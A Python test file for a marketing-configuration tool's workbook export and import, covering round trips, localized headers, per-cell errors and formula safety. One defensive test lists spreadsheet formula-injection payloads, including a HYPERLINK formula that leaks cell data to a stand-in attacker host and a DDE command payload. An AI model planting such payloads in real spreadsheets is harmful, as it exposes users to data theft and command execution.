"""Configuration workbooks: export, import, the exact round trip, errors by cell, formula safety."""

from __future__ import annotations

import re
import stat
import zipfile
from pathlib import Path

import openpyxl
import pytest

from mktctl.deliver import layout
from mktctl.deliver.fields import cell_text
from mktctl.deliver.workbook_export import export_playbook
from mktctl.deliver.workbook_import import WorkbookError, import_workbook
from mktctl.errors import DataFileError
from mktctl.playbook.load import load_playbook
from tests.deliver.conftest import GENERATOR, NOW, starter, texts


def export(folder: Path, out: Path, lang: str = "zh-CN") -> Path:
    playbook, _warnings = load_playbook(folder)
    export_playbook(playbook, out, lang=lang, generated_at=NOW, generator=GENERATOR)
    return out


def find(ws, text: str, column: int | None = None):  # type: ignore[no-untyped-def]
    for row in ws.iter_rows():
        for cell in row:
            if (cell.value == text or cell_text(cell.value) == text) and (column is None or cell.column == column):
                return cell
    raise AssertionError(f"{text!r} not on {ws.title}")


def edit(book: Path, change) -> Path:  # type: ignore[no-untyped-def]
    workbook = openpyxl.load_workbook(book)
    change(workbook)
    edited = book.with_name("edited-" + book.name)
    workbook.save(edited)
    return edited


@pytest.mark.parametrize("lang", ["zh-CN", "en"])
def test_export_then_import_gives_an_identical_playbook(playbook_dir: Path, tmp_path: Path, lang: str) -> None:
    original, _warnings = load_playbook(playbook_dir)
    book = export(playbook_dir, tmp_path / "config.xlsx", lang)
    result = import_workbook(book, tmp_path / "new", note="test")
    assert result.created
    copy, _warnings = load_playbook(tmp_path / "new")
    assert copy.digest() == original.digest()
    assert [r.address for r in copy.resources] == [r.address for r in original.resources]
    assert (copy.name, copy.language) == (original.name, original.language)


def test_import_into_the_same_playbook_changes_nothing(playbook_dir: Path, tmp_path: Path) -> None:
    before = texts(playbook_dir)
    result = import_workbook(export(playbook_dir, tmp_path / "config.xlsx"), playbook_dir, note="test")
    assert result.unchanged and result.warnings == []
    assert texts(playbook_dir) == before


def test_every_kind_in_the_registry_has_a_table(playbook_dir: Path, tmp_path: Path) -> None:
    book = openpyxl.load_workbook(export(playbook_dir, tmp_path / "config.xlsx"))
    codes = {c.value.split(".")[0] for ws in book.worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and layout.CODE_PATTERN.match(c.value)}
    assert {k.name for k in layout.registry()} <= codes
    assert book["_lists"].sheet_state == "hidden" and book["_mktctl"].sheet_state == "hidden"


def test_headers_are_chinese_with_notes_and_picklists(playbook_dir: Path, tmp_path: Path) -> None:
    book = openpyxl.load_workbook(export(playbook_dir, tmp_path / "config.xlsx"))
    ws = book["组织与角色"]
    header = find(ws, "员工编号 *")
    assert header.comment is not None and "employee_number" in header.comment.text
    scope = find(ws, "数据权限")
    assert "department_and_below（本部门及下属部门）" in scope.comment.text
    validations = [dv for dv in ws.data_validations.dataValidation if dv.type == "list"]
    assert any("_lists" in (dv.formula1 or "") for dv in validations)
    assert find(ws, "本部门及下属部门").column == scope.column
    assert ws.row_dimensions[find(ws, "departments.name").row].hidden


@pytest.mark.parametrize(("lang", "meaning", "refers_to"), [
    ("zh-CN", "recycle_after_hours：已领取或已分配的线索超过该小时数未跟进，自动退回线索池", "引用：部门"),
    ("en", "recycle_after_hours: a claimed or assigned lead not followed up within this many hours goes back to the "
           "pool", "refers to: departments"),
])
def test_a_header_note_says_what_its_field_means_in_the_workbooks_language(
        playbook_dir: Path, tmp_path: Path, lang: str, meaning: str, refers_to: str) -> None:
    book = openpyxl.load_workbook(export(playbook_dir, tmp_path / "config.xlsx", lang))
    notes = {re.split("[:：]", lines[0])[0]: lines for ws in book.worksheets for row in ws.iter_rows()
             for cell in row if cell.comment is not None and (lines := cell.comment.text.splitlines())}

    assert notes["recycle_after_hours"][0] == meaning
    assert refers_to in notes["parent"]


def test_the_workbook_records_the_playbook_digest(playbook_dir: Path, tmp_path: Path) -> None:
    playbook, _warnings = load_playbook(playbook_dir)
    book = openpyxl.load_workbook(export(playbook_dir, tmp_path / "config.xlsx"))
    meta = {row[0]: row[1] for row in book["_mktctl"].iter_rows(values_only=True)}
    assert meta["digest"] == playbook.digest() and meta["type"] == "config"
    assert find(book["说明"], playbook.digest()).row > 1


def test_a_workbook_with_personal_data_is_private(playbook_dir: Path, tmp_path: Path) -> None:
    book = export(playbook_dir, tmp_path / "config.xlsx")
    assert stat.S_IMODE(book.stat().st_mode) == 0o600
    assert "13800000001" in [c.value for row in openpyxl.load_workbook(book)["组织与角色"].iter_rows() for c in row]


def test_edits_change_only_what_changed_and_keep_comments(playbook_dir: Path, tmp_path: Path) -> None:
    book = export(playbook_dir, tmp_path / "config.xlsx")

    def change(workbook):  # type: ignore[no-untyped-def]
        ws = workbook["组织与角色"]
        find(ws, "执行营销活动，跟进线索").value = "执行营销活动"
        find(ws, "M002、M003").value = "M002"
        user = find(ws, "M003", column=1)
        for cell in ws[user.row]:
            cell.value = None
        role = find(ws, "销售代表", column=1)
        ws.cell(role.row + 1, 1).value = "数据分析师"
        ws.cell(role.row + 1, 3).value = "本人"
        matrix = workbook["角色权限"]
        matrix.cell(3, 6).value = "数据分析师"
        reports = find(matrix, "reports", column=2)
        matrix.cell(reports.row, 6).value = "查看"
        find(ws, "内容运营组", column=1).offset(0, 1).value = "销售部"

    before = texts(playbook_dir)
    result = import_workbook(edit(book, change), playbook_dir, note="test")
    after = texts(playbook_dir)
    assert not result.unchanged
    entry = after["mktctl.yaml"]
    assert "description: 执行营销活动\n" in entry and 'users: [M002]' in entry
    assert "  - name: 数据分析师\n    permissions:\n      reports: [view]\n" in entry  # defaults left out
    assert entry.index("数据分析师") < entry.index("# Who holds each role")  # the next section keeps its comment
    for line in before["mktctl.yaml"].splitlines():
        if line.lstrip().startswith("#"):
            assert line in entry
    organisation = after["organisation.yaml"]
    assert '"M003"' not in organisation and "韩梅梅" not in organisation
    assert "- name: ${var.sales_region}销售组" in organisation  # the variable reference is kept
    assert "# Users are keyed by employee_number" in organisation
    playbook, _warnings = load_playbook(playbook_dir)
    assert playbook.find("departments", "内容运营组").spec.parent == "销售部"  # type: ignore[union-attr]
    assert playbook.find("users", "M003") is None
    assert playbook.find("roles", "数据分析师").spec.permissions == {"reports": ["view"]}  # type: ignore[union-attr]


def test_errors_name_the_sheet_and_cell(playbook_dir: Path, tmp_path: Path) -> None:
    book = export(playbook_dir, tmp_path / "config.xlsx")

    def change(workbook):  # type: ignore[no-untyped-def]
        workbook["角色权限"]["C5"] = "veiw"
        ws = workbook["组织与角色"]
        find(ws, "13800000002").value = "12345"
        find(ws, "本人").value = "everyone"
        find(ws, "内容运营组", column=1).offset(0, 1).value = "市场布"

    with pytest.raises(WorkbookError) as caught:
        import_workbook(edit(book, change), playbook_dir, note="test")
    messages = [str(p) for p in caught.value.problems]
    assert "角色权限!C5: unknown action 'veiw'; did you mean 'view'?" in messages
    assert any(m.startswith("组织与角色!C") and "not a valid mobile number" in m for m in messages)
    assert any("unknown value 'everyone'" in m for m in messages)
    assert any("unknown departments '市场布'; did you mean '市场部'?" in m for m in messages)


def test_import_warns_when_the_playbook_changed_since_export(playbook_dir: Path, tmp_path: Path) -> None:
    book = export(playbook_dir, tmp_path / "config.xlsx")
    entry = playbook_dir / "mktctl.yaml"
    entry.write_text(entry.read_text(encoding="utf-8").replace("跟进分配的线索", "跟进线索"), encoding="utf-8")
    result = import_workbook(book, playbook_dir, note="test")
    assert any("the playbook changed since this workbook was made" in w for w in result.warnings)
    assert "跟进分配的线索" in entry.read_text(encoding="utf-8")  # the workbook's value wins


@pytest.mark.parametrize("payload", ['=HYPERLINK("http://evil.example/?leak="&A1,"点击")', "=cmd|' /C calc'!A0",
                                     "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1"])
def test_client_text_is_never_a_formula(playbook_dir: Path, tmp_path: Path, payload: str) -> None:
    entry = playbook_dir / "mktctl.yaml"
    entry.write_text(entry.read_text(encoding="utf-8").replace(
        "description: 跟进分配的线索", f"description: {_yaml_string(payload)}"), encoding="utf-8")
    book = export(playbook_dir, tmp_path / "config.xlsx")
    with zipfile.ZipFile(book) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    assert not any("<f>" in sheet for sheet in sheets)
    cell = find(openpyxl.load_workbook(book)["组织与角色"], payload)
    assert cell.data_type == "s" and cell.quotePrefix
    copy = tmp_path / "copy"
    import_workbook(book, copy, note="test")
    playbook, _warnings = load_playbook(copy)
    assert playbook.find("roles", "销售代表").spec.description == payload  # type: ignore[union-attr]


def test_a_formula_typed_into_a_cell_is_refused(playbook_dir: Path, tmp_path: Path) -> None:
    book = export(playbook_dir, tmp_path / "config.xlsx")

    def change(workbook):  # type: ignore[no-untyped-def]
        find(workbook["组织与角色"], "跟进分配的线索").value = "=1+1"

    with pytest.raises(WorkbookError, match="a formula is not a value"):
        import_workbook(edit(book, change), tmp_path / "new", note="test")


def test_text_that_looks_like_a_variable_stays_literal(playbook_dir: Path, tmp_path: Path) -> None:
    book = export(playbook_dir, tmp_path / "config.xlsx")

    def change(workbook):  # type: ignore[no-untyped-def]
        find(workbook["组织与角色"], "跟进分配的线索").value = "price ${var.x} $${y}"

    import_workbook(edit(book, change), tmp_path / "new", note="test")
    playbook, _warnings = load_playbook(tmp_path / "new")
    assert playbook.find("roles", "销售代表").spec.description == "price ${var.x} $${y}"  # type: ignore[union-attr]


def test_not_a_workbook(tmp_path: Path) -> None:
    bad = tmp_path / "leads.xls"
    bad.write_bytes(b"\xd0\xcf\x11\xe0 not a zip")
    with pytest.raises(DataFileError, match="not an xlsx workbook"):
        import_workbook(bad, tmp_path / "new", note="test")
    with pytest.raises(DataFileError, match=r"missing\.xlsx: file not found"):
        import_workbook(tmp_path / "missing.xlsx", tmp_path / "new", note="test")


def test_a_new_playbook_refuses_to_overwrite_stray_files(playbook_dir: Path, tmp_path: Path) -> None:
    book = export(playbook_dir, tmp_path / "config.xlsx")
    target = tmp_path / "stray"
    target.mkdir()
    (target / "organisation.yaml").write_text("# mine\n", encoding="utf-8")
    from mktctl.errors import MktctlError

    with pytest.raises(MktctlError, match=r"already has organisation\.yaml"):
        import_workbook(book, target, note="test")
    assert (target / "organisation.yaml").read_text(encoding="utf-8") == "# mine\n"


def test_english_workbook_reads_into_the_same_playbook(playbook_dir: Path, tmp_path: Path) -> None:
    book = export(playbook_dir, tmp_path / "config-en.xlsx", "en")
    workbook = openpyxl.load_workbook(book)
    assert "Organisation" in workbook.sheetnames and "Role permissions" in workbook.sheetnames
    assert find(workbook["Role permissions"], "view, create, edit, export, assign").column == 3
    assert import_workbook(book, playbook_dir, note="test").unchanged


def find_anywhere(book, text: str):  # type: ignore[no-untyped-def]
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value == text:
                    return cell
    raise AssertionError(f"{text!r} not in the workbook")


def test_a_chinese_workbook_lists_values_with_the_enumeration_comma_and_reads_them_back(playbook_dir: Path,
                                                                                      tmp_path: Path) -> None:
    book = export(playbook_dir, tmp_path / "config.xlsx")
    english = export(playbook_dir, tmp_path / "config-en.xlsx", "en")

    assert find_anywhere(openpyxl.load_workbook(book), "姓名、职位、手机、邮箱、公司地址").parent.title == "内容与协同"
    assert find_anywhere(openpyxl.load_workbook(english), "姓名, 职位, 手机, 邮箱, 公司地址")
    assert import_workbook(book, playbook_dir, note="test").unchanged


def test_a_list_cell_may_separate_its_values_as_a_person_types_them(playbook_dir: Path, tmp_path: Path) -> None:
    book = export(playbook_dir, tmp_path / "config.xlsx")

    def change(workbook):  # type: ignore[no-untyped-def]
        typed = "姓名，职位; 手机；邮箱, 公司地址、微信二维码"
        find(workbook["内容与协同"], "姓名、职位、手机、邮箱、公司地址").value = typed

    import_workbook(edit(book, change), playbook_dir, note="test")
    playbook, _warnings = load_playbook(playbook_dir)
    assert playbook.of("business_cards")[0].spec.fields == [  # type: ignore[attr-defined]
        "姓名", "职位", "手机", "邮箱", "公司地址", "微信二维码"]


def test_another_starter_copy_is_independent(tmp_path: Path) -> None:
    folder = starter(tmp_path / "again")
    assert (folder / "mktctl.yaml").is_file()


def _yaml_string(text: str) -> str:
    import json

    return json.dumps(text, ensure_ascii=False)


def test_a_secret_reference_stays_a_reference(playbook_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
                                              ) -> None:
    monkeypatch.setenv("MKTCTL_TEST_DESCRIPTION", "very-secret-value")
    entry = playbook_dir / "mktctl.yaml"
    entry.write_text(entry.read_text(encoding="utf-8").replace(
        "description: 跟进分配的线索", "description: ${env:MKTCTL_TEST_DESCRIPTION}"), encoding="utf-8")
    book = export(playbook_dir, tmp_path / "config.xlsx")
    values = [c.value for ws in openpyxl.load_workbook(book).worksheets for row in ws.iter_rows() for c in row]
    assert "${env:MKTCTL_TEST_DESCRIPTION}" in values and "very-secret-value" not in values
    assert import_workbook(book, playbook_dir, note="test").unchanged
    import_workbook(book, tmp_path / "new", note="test")
    assert "${env:MKTCTL_TEST_DESCRIPTION}" in (tmp_path / "new" / "organisation.yaml").read_text(encoding="utf-8")


def test_reordered_rows_reorder_the_items(playbook_dir: Path, tmp_path: Path) -> None:
    book = export(playbook_dir, tmp_path / "config.xlsx")

    def change(workbook):  # type: ignore[no-untyped-def]
        ws = workbook["组织与角色"]
        first, last = find(ws, "市场经理", column=1).row, find(ws, "销售代表", column=1).row
        rows = [[c.value for c in ws[row]] for row in range(first, last + 1)]
        for offset, values in enumerate(reversed(rows)):
            for column, value in enumerate(values, start=1):
                ws.cell(first + offset, column).value = value

    import_workbook(edit(book, change), playbook_dir, note="test")
    playbook, _warnings = load_playbook(playbook_dir)
    assert [r.key for r in playbook.of("roles")] == ["销售代表", "市场专员", "市场经理"]
    entry = (playbook_dir / "mktctl.yaml").read_text(encoding="utf-8")
    assert entry.index("# Who holds each role") > entry.index("- name: 市场经理")
    assert playbook.find("roles", "市场经理").spec.data_scope == "department_and_below"  # type: ignore[union-attr]


def test_a_flat_department_list_stays_flat(tmp_path: Path) -> None:
    folder = tmp_path / "flat"
    folder.mkdir()
    (folder / "mktctl.yaml").write_text(
        "version: 1\nname: flat\n# the tree, flat\ndepartments:\n  - name: 销售部\n"
        "  - name: 华北组\n    parent: 销售部\n  - name: 华南组  # new in 2025\n    parent: 销售部\n", encoding="utf-8")
    book = export(folder, tmp_path / "flat.xlsx")

    def change(workbook):  # type: ignore[no-untyped-def]
        ws = workbook["组织与角色"]
        find(ws, "华北组", column=1).offset(0, 1).value = None
        cell = find(ws, "华南组", column=1)
        assert cell.alignment.indent == 1  # shown as a tree
        ws.cell(cell.row + 1, 1).value = "华东组"
        ws.cell(cell.row + 1, 2).value = "销售部"

    import_workbook(edit(book, change), folder, note="test")
    text = (folder / "mktctl.yaml").read_text(encoding="utf-8")
    assert "children" not in text and "# the tree, flat" in text
    playbook, _warnings = load_playbook(folder)
    assert [(r.key, r.spec.parent) for r in playbook.of("departments")] == [  # type: ignore[attr-defined]
        ("销售部", None), ("华北组", None), ("华南组", "销售部"), ("华东组", "销售部")]
